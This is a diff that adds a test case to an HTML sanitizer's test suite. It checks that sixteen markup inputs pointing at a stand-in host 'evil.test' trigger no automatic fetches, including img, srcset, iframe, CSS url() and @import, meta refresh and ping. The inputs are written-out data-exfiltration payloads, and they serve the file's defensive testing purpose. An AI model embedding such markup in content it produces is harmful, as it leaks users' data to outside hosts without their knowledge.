@@ -94,6 +94,35 @@ describe('links and pictures', () => {
     expect(link?.href).toBe('https://example.com/a.png');
   });
 
+  test.each([
+    '<img src="https://evil.test/?d=330102">',
+    '<img srcset="https://evil.test/?d=330102 2x">',
+    '<picture><source srcset="https://evil.test/?d=330102"><img></picture>',
+    '<video poster="https://evil.test/?d=330102" src="https://evil.test/?d=330102" autoplay></video>',
+    '<audio src="https://evil.test/?d=330102" autoplay></audio>',
+    '<iframe src="https://evil.test/?d=330102"></iframe>',
+    '<object data="https://evil.test/?d=330102"></object>',
+    '<link rel="stylesheet" href="https://evil.test/?d=330102">',
+    '<link rel="dns-prefetch" href="https://330102.evil.test/">',
+    '<p style="background:url(https://evil.test/?d=330102)">文</p>',
+    '<style>@import "https://evil.test/?d=330102"</style>',
+    '<svg><image href="https://evil.test/?d=330102"/></svg>',
+    '<input type="image" src="https://evil.test/?d=330102">',
+    '<table background="https://evil.test/?d=330102"></table>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.test/?d=330102">',
+    '<a href="https://example.com" ping="https://evil.test/?d=330102">链接</a>',
+  ])('R-FLOW-10 nothing is fetched for %s', (html) => {
+    // Only a link that is followed by hand may name it.
+    const box = show(html);
+    for (const element of box.querySelectorAll('*'))
+      for (const { name, value } of element.attributes)
+        if (value.includes('evil.test'))
+          expect([element.localName, name]).toEqual(expect.arrayContaining(['a']));
+    expect(
+      box.querySelector('style, link, meta, iframe, object, svg, video, audio, [ping], [srcset]'),
+    ).toBeNull();
+  });
+
   test('R-SEC-02 an embedded picture stays', () => {
     expect(show('<img src="data:image/png;base64,iVBORw0KGgo=">').querySelector('img')).not.toBeNull();
   });
